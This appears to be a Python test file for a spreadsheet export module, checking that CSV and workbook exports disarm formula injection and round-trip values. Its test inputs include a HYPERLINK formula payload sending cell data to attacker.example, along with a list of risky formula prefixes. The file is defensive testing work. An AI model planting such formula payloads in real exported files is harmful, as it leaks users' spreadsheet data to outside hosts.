"""Files for others: nothing in them runs, and what is written comes back the same."""

from __future__ import annotations

import csv
import datetime as dt
import io
import string
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from core.tabular.columns import DFE_CODES, RISKY, Coded, Column, Format, Kind, clean, lines, unguard
from core.tabular.writing import Sheet, export_response, guard, write_csv, write_workbook

PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff20"]


def parsed(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("prefix", PREFIXES)
def test_no_cell_of_a_csv_file_begins_with_what_a_spreadsheet_runs(prefix):
    attack = prefix + 'HYPERLINK("http://attacker.example/?"&A1,"Click")'
    rows = parsed(write_csv([attack], [[attack], [Decimal("-1.5")], [-3]]))
    assert all(cell[0] not in RISKY for cell in (rows[0][0], rows[1][0]))
    assert rows[1][0] == "'" + attack
    assert [rows[2], rows[3]] == [["-1.5"], ["-3"]], "a number stays a number"


@pytest.mark.parametrize("prefix", PREFIXES)
def test_no_cell_of_a_workbook_is_a_formula_or_a_link(prefix):
    attacks = [prefix + "1+1", "http://attacker.example", "mailto:a@attacker.example", "{=1+1}"]
    content = write_workbook([Sheet("=1+1", attacks, [attacks])])
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        pages = "".join(book.read(name).decode() for name in book.namelist())
    assert "<f>" not in pages
    assert "<hyperlink" not in pages


def test_every_cell_of_a_csv_file_is_quoted_and_accents_survive_excel():
    assert write_csv(["Name"], [["Café"]]) == b'\xef\xbb\xbf"Name"\r\n"Caf\xc3\xa9"\r\n'


def test_values_are_written_as_people_here_read_them():
    row = [None, True, dt.date(2008, 9, 1), dt.datetime(2008, 9, 1, 14, 5, tzinfo=dt.UTC), Decimal("1E+2"), 7, ""]
    assert parsed(write_csv(list("abcdefg"), [row]))[1] == ["", "yes", "01/09/2008", "01/09/2008 15:05", "100", "7", ""]


def test_a_workbook_holds_dates_as_dates_numbers_as_numbers_and_codes_as_text():
    import openpyxl

    moment = dt.datetime(2008, 9, 1, 14, 5, tzinfo=dt.UTC)
    content = write_workbook(
        [Sheet("Schools", list("abcdef"), [["0012", 12, Decimal("0.5"), dt.date(2008, 9, 1), moment, 10**17]]), Sheet("Notes", ["x"], [])]
    )
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert book.sheetnames == ["Schools", "Notes"]
    assert [cell.value for cell in book["Schools"][2]] == [
        "0012",
        12,
        0.5,
        dt.datetime.fromisoformat("2008-09-01"),
        dt.datetime.fromisoformat("2008-09-01T15:05"),
        str(10**17),
    ]
    assert book["Schools"].freeze_panes == "A2"


def test_the_same_rows_give_the_same_bytes():
    assert write_workbook([Sheet("S", ["a"], [["x"]])]) == write_workbook([Sheet("S", ["a"], [["x"]])])


def test_a_sheet_gets_a_name_that_excel_accepts_and_text_too_long_for_it_is_refused():
    import openpyxl

    content = write_workbook([Sheet("'Schools: [a/b]*?' of a very long-named county", ["a"], []), Sheet("", ["a"], [])])
    assert openpyxl.load_workbook(io.BytesIO(content)).sheetnames == ["Schools   a b   ' of a very lon", "Sheet2"]
    with pytest.raises(ValueError, match="CSV"):
        write_workbook([Sheet("S", ["a"], [["x" * 40_000]])])


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_download_is_an_attachment_with_a_plain_name(kind):
    response = export_response('Schools; "all"\r\nX: y', ["Name"], [["A"]], kind)
    assert response["Content-Disposition"] == f'attachment; filename="schools-all-x-y.{kind}"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response.content[:2] == (b"PK" if kind == "xlsx" else b"\xef\xbb")


def test_an_export_of_another_kind_is_refused():
    with pytest.raises(ValueError, match="pdf"):
        export_response("a", ["b"], [], "pdf")


# ---------------------------------------------------------------- there and back


@given(st.text())
def test_the_guard_has_an_exact_inverse_and_never_leaves_a_risky_start(text):
    assert unguard(guard(text)) == text
    assert guard(text)[:1] not in set(RISKY)


FORMAT = Format(
    "everything",
    "a table of everything",
    (
        Column("urn", "URN", Kind.INTEGER, required=True, filled=True),
        Column("name", "Name", max_length=2000),
        Column("story", "Story", multiline=True, max_length=2000),
        Column("estab", "LAESTAB", digits=7),
        Column("on", "Date", Kind.DATE),
        Column("number", "Number", Kind.DECIMAL),
        Column("share", "Share", Kind.PERCENT, codes=DFE_CODES),
        Column("fraction", "Fraction", Kind.PERCENT, scale=100),
        Column("pence", "Amount", Kind.MONEY),
        Column("yes", "Yes or no", Kind.BOOLEAN),
        Column("role", "Role", Kind.CHOICE, choices={"Head teacher": "head", "Chair": "chair"}),
    ),
)

NASTY = st.sampled_from(
    ["=1+1", "'=1+1", "''@x", "-", "+44 1732", "NA", "SUPP", "0012", '"', "a,b", "'", "@", "\uff1dx", "1/2", "TRUE", "#N/A"]
)
TEXT = st.one_of(NASTY, st.text(st.characters(exclude_categories=["Cs"]), max_size=60))
NUMBER = st.decimals(min_value=-(10**8), max_value=10**8, places=4, allow_nan=False, allow_infinity=False)


def or_none(strategy: st.SearchStrategy) -> st.SearchStrategy:
    return st.one_of(st.none(), strategy)


ROWS = st.lists(
    st.fixed_dictionaries(
        {
            "urn": st.integers(1, 9_999_999),
            # What an importer stores is clean text, so that is what an export holds; a blank is None.
            "name": or_none(TEXT.map(clean)).map(lambda text: text or None),
            "story": or_none(st.lists(TEXT, max_size=4).map("\n".join).map(lines)).map(lambda text: text or None),
            "estab": or_none(st.text(string.digits, min_size=7, max_size=7)),
            "on": or_none(st.dates(dt.date(1901, 1, 1), dt.date(2199, 12, 31))),
            "number": or_none(NUMBER),
            "share": st.one_of(
                st.builds(Coded, NUMBER),
                st.sampled_from([Coded(None, code.reason, text) for text, code in DFE_CODES.items()]),
                st.just(FORMAT.column("share").read("")),
            ),
            "fraction": or_none(NUMBER.map(lambda number: number / 100)),
            "pence": or_none(st.integers(-(10**12), 10**12)),
            "yes": or_none(st.booleans()),
            "role": or_none(st.sampled_from(["head", "chair"])),
        }
    ),
    max_size=12,
)


def back(folder: Path, content: bytes, kind: str) -> list[dict]:
    path = folder / f"export.{kind}"
    path.write_bytes(content)
    with path.open("rb") as file:
        result = FORMAT.read(file, name=path.name)
    assert result.errors == []
    return [row.values for row in result.rows]


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(ROWS)
def test_what_is_exported_as_csv_is_imported_the_same(tmp_path, rows):
    assert back(tmp_path, FORMAT.export(rows, "csv"), "csv") == rows


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture], phases=[Phase.reuse, Phase.generate])
@given(ROWS)
def test_what_is_exported_as_a_workbook_is_imported_the_same(tmp_path, rows):
    assert back(tmp_path, FORMAT.export(rows, "xlsx"), "xlsx") == rows
